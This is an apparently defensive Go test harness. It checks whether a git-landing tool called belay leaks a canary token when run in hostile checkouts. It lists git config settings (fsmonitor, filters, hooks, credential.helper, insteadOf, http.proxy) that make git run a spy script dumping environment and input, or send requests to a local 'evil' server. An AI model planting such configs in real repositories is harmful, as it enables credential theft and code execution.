//go:build linux

package main

import (
	"bytes"
	"cmp"
	"encoding/base64"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"time"
)

const canaryToken = "canary-Zq8rT2vXw5yB7nM4"

// hostile is a way for a checkout to have a program of its own run by git, or to lead git elsewhere. SPY is a program
// that notes its environment, arguments and input; EVIL is a server that notes what it is sent; SERVER is the real one.
type hostile struct{ name, config string }

func hostiles() []hostile {
	list := []hostile{
		{"core.fsmonitor", "core.fsmonitor=SPY"}, {"filter.clean", "filter.x.clean=SPY"}, {"filter.smudge", "filter.x.smudge=SPY"},
		{"filter.process", "filter.x.process=SPY"}, {"diff.external", "diff.external=SPY"}, {"textconv", "diff.x.textconv=SPY"},
		{"merge driver", "merge.x.driver=SPY"}, {"core.sshCommand", "core.sshCommand=SPY"}, {"credential.helper", "credential.helper=!SPY"},
		{"core.askPass", "core.askPass=SPY"}, {"core.editor", "core.editor=SPY"}, {"core.pager", "core.pager=SPY"},
		{"gpg.program", "commit.gpgSign=true\ngpg.program=SPY"}, {"core.gitProxy", "core.gitProxy=SPY"},
		{"receivepack", "remote.origin.receivepack=SPY"}, {"uploadpack", "remote.origin.uploadpack=SPY"},
		{"insteadOf", "url.EVIL/.insteadOf=SERVER/"}, {"pushInsteadOf", "url.EVIL/.pushInsteadOf=SERVER/"},
		{"http.proxy", "http.proxy=EVIL"}, {"include.path", "include.path=../evil.config"}, {"pushurl", "remote.origin.pushurl=EVIL/repo.git"},
	}
	for _, hook := range []string{"pre-commit", "post-commit", "pre-push", "reference-transaction", "post-index-change", "pre-auto-gc", "post-rewrite"} {
		list = append(list, hostile{"hook " + hook, "core.hooksPath=HOOKS"})
	}
	return list
}

// canary lands from hostile checkouts while the process table is looked at all the time, and then looks through files, the
// log and what a second server was sent. The control is git with the token on the same checkouts.
func canary(args []string) error {
	flags := flag.NewFlagSet("canary", flag.ExitOnError)
	_ = flags.Parse(args)
	dir, belay, remove, err := prepared()
	if err != nil {
		return err
	}
	defer remove()
	evil := &evilServer{}
	evilURL, err := listen(evil)
	if err != nil {
		return err
	}
	serverURL, err := listen(gitServer(filepath.Join(dir, "srv")))
	if err != nil {
		return err
	}
	var broken []error
	leaks, control, landed := 0, 0, 0
	for i, h := range hostiles() {
		for _, naive := range []bool{false, true} {
			at := filepath.Join(dir, fmt.Sprintf("%d-%v", i, naive))
			seen, err := h.try(at, dir, belay, serverURL, evilURL, evil, naive)
			switch {
			case naive && len(seen) > 0:
				control++
			case naive:
			case err == nil && len(seen) == 0:
				landed++
			case len(seen) > 0:
				leaks++
				broken = append(broken, fmt.Errorf("%s: the token was seen in %s", h.name, strings.Join(seen, ", ")))
			}
		}
	}
	fmt.Println("| hostile checkouts | landed from all the same | the token was seen outside of belay | with `git push` and the token in a header (the control) |")
	fmt.Println("|---|---|---|---|")
	fmt.Printf("| %d | %d | %d | %d |\n", len(hostiles()), landed, leaks, control)
	inMemory, unhidden, err := memory(dir, belay)
	if err != nil {
		return err
	}
	fmt.Println("\n| the token in /proc | of belay, seen by a step | of a shell, seen by the same (the control) |")
	fmt.Println("|---|---|---|")
	fmt.Printf("| environ, mem | %s | %s |\n", cmp.Or(strings.Join(inMemory, ", "), "nowhere"), cmp.Or(strings.Join(unhidden, ", "), "nowhere"))
	if len(inMemory) > 0 || len(unhidden) == 0 {
		broken = append(broken, fmt.Errorf("a step saw the token in %v of belay, and in %v of the control", inMemory, unhidden))
	}
	if control == 0 {
		broken = append(broken, errors.New("the control leaked nothing either: this test proves nothing"))
	}
	return errors.Join(broken...)
}

// try lands a change from a checkout that is hostile, and says where the token was seen.
func (h hostile) try(at, dir, belay, server, evilURL string, evil *evilServer, naive bool) ([]string, error) {
	repo := filepath.Base(at) + ".git"
	setup := `set -e
mkdir -p "$AT/hooks" "$AT/clone"
printf '#!/bin/sh\n{ echo "$@"; env; timeout 0.2 cat; } >> "%s/seen" 2>/dev/null\nexit 0\n' "$AT" > "$AT/spy"
chmod +x "$AT/spy"
for hook in pre-commit post-commit pre-push reference-transaction post-index-change pre-auto-gc post-rewrite; do ln -s "$AT/spy" "$AT/hooks/$hook"; done
git init -q --bare --initial-branch=main "$SRV/$REPO"
git -C "$SRV/$REPO" config http.receivepack true
cd "$AT/clone"
git init -q --initial-branch=main .
echo '*.txt filter=x diff=x merge=x' > .gitattributes
echo one > file.txt
git add . && git commit -qm first
git push -q "$SRV/$REPO" main
git remote add origin "$SERVER/$REPO"
git update-ref refs/remotes/origin/main HEAD`
	env := environ("AT="+at, "SRV="+filepath.Join(dir, "srv"), "SERVER="+server, "REPO="+repo, "HOME="+at, "TMPDIR="+at, "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.invalid", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.invalid", "GIT_TERMINAL_PROMPT=0")
	if out, err := command(dir, env, "sh", "-c", setup).CombinedOutput(); err != nil {
		return nil, fmt.Errorf("%w: %s", err, out)
	}
	place := strings.NewReplacer("SPY", filepath.Join(at, "spy"), "EVIL", evilURL, "SERVER", server, "HOOKS", filepath.Join(at, "hooks"))
	for line := range strings.SplitSeq(place.Replace(h.config), "\n") {
		key, value, _ := strings.Cut(line, "=")
		if out, err := command(filepath.Join(at, "clone"), env, "git", "config", key, value).CombinedOutput(); err != nil {
			return nil, fmt.Errorf("%w: %s", err, out)
		}
	}
	_ = os.WriteFile(filepath.Join(at, "clone", "evil.config"), []byte("[core]\n\tfsmonitor = "+filepath.Join(at, "spy")+"\n"), 0o600)
	steps := "version: 1\nsteps:\n  - run: echo two > file.txt; git status >/dev/null || true\n  - { uses: land, with: { branch: main, message: change } }\n"
	if err := os.WriteFile(filepath.Join(at, "steps.yml"), []byte(steps), 0o600); err != nil {
		return nil, err
	}
	evil.reset()
	cmd := command(filepath.Join(at, "clone"), append(env, "BELAY_TOKEN="+canaryToken), belay, "run", "--steps", "../steps.yml", "--policy", "none", "--report-dir", filepath.Join(at, "report"))
	if naive {
		push := `echo two > file.txt; git -c http.extraHeader="AUTHORIZATION: basic $LOGIN" commit -qam change; GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.extraHeader GIT_CONFIG_VALUE_0="AUTHORIZATION: basic $LOGIN" git push -q origin main`
		cmd = command(filepath.Join(at, "clone"), append(env, "LOGIN="+login()), "timeout", "10", "sh", "-c", push)
	}
	return watched(cmd, at, evil, naive)
}

func command(dir string, env []string, name string, args ...string) *exec.Cmd {
	cmd := exec.Command(name, args...)
	cmd.Dir, cmd.Env = dir, env
	return cmd
}

func login() string {
	return base64.StdEncoding.EncodeToString([]byte("x-access-token:" + canaryToken))
}

func holdsToken(text []byte) bool {
	return bytes.Contains(text, []byte(canaryToken)) || bytes.Contains(text, []byte(login()))
}

// watched runs cmd while the process table is looked at, and then looks at everything it left. In the control only what
// the hostile programs and the second server saw counts: the shell around git holds the token by right.
func watched(cmd *exec.Cmd, at string, evil *evilServer, naive bool) (seen []string, err error) {
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	found := map[string]bool{}
	ended := make(chan error, 1)
	go func() { ended <- cmd.Wait() }()
	for waiting := true; waiting; {
		select {
		case err = <-ended:
			waiting = false
		case <-time.After(5 * time.Millisecond):
			if !naive {
				lookAtProcesses(cmd.Process.Pid, found)
			}
		}
	}
	if err != nil && !naive {
		err = fmt.Errorf("%w: %s", err, out.String()[max(0, out.Len()-1500):])
	}
	if holdsToken(out.Bytes()) {
		found["the log"] = true
	}
	if evil.sawToken() {
		found["the other server"] = true
	}
	_ = filepath.WalkDir(at, func(path string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			if text, err := os.ReadFile(path); err == nil && holdsToken(text) {
				found["the file "+filepath.Base(path)] = true
			}
		}
		return nil
	})
	for where := range found {
		seen = append(seen, where)
	}
	return seen, err
}

// lookAtProcesses notes the processes, but for belay itself, whose arguments or environment hold the token.
func lookAtProcesses(belay int, found map[string]bool) {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if e.Name() == fmt.Sprint(belay) || e.Name()[0] < '0' || e.Name()[0] > '9' {
			continue
		}
		if exe, err := os.Readlink("/proc/" + e.Name() + "/exe"); err == nil && filepath.Base(exe) == "belay" {
			continue // a child that is about to become another program: until then it is belay's own memory
		}
		for _, part := range []string{"cmdline", "environ"} {
			if text, err := os.ReadFile("/proc/" + e.Name() + "/" + part); err == nil && holdsToken(text) {
				name, _ := os.ReadFile("/proc/" + e.Name() + "/comm")
				found["the "+part+" of "+strings.TrimSpace(string(name))] = true
			}
		}
	}
}

// evilServer notes what it is sent.
type evilServer struct {
	mu   sync.Mutex
	sent bytes.Buffer
}

func (s *evilServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	_ = r.Header.Write(&s.sent)
	s.mu.Unlock()
	http.Error(w, "give me more", http.StatusUnauthorized)
}

func (s *evilServer) reset() {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.sent.Reset()
}

func (s *evilServer) sawToken() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return holdsToken(s.sent.Bytes())
}

// gitServer lets in who has the token, and keeps it from its own children.
func gitServer(root string) http.Handler {
	git, _ := exec.LookPath("git")
	_ = os.MkdirAll(root, 0o755)
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if _, password, ok := r.BasicAuth(); !ok || password != canaryToken {
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			http.Error(w, "who are you?", http.StatusUnauthorized)
			return
		}
		r.Header.Del("Authorization")
		h := cgi.Handler{Path: git, Args: []string{"http-backend"}, Env: []string{
			"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=belay", "GIT_PROTOCOL=" + r.Header.Get("Git-Protocol"), "PATH=" + os.Getenv("PATH")}}
		h.ServeHTTP(w, r)
	})
}

func listen(handler http.Handler) (string, error) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", err
	}
	go func() { _ = http.Serve(listener, handler) }()
	return "http://" + listener.Addr().String(), nil
}
